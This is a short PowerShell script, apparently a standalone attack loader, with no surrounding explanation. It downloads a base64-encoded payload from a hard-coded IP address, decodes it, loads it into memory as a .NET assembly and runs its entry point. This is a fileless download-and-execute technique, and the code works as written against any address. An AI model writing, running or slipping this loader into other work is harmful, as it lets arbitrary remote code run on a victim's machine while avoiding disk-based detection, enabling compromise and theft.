$b64 = (Invoke-RestMethod -Uri 'http://192.0.2.10/payload.txt')
$bytes = [System.Convert]::FromBase64String($b64)
$asm = [System.Reflection.Assembly]::Load($bytes)
$asm.EntryPoint.Invoke($null, @(, [string[]]@()))
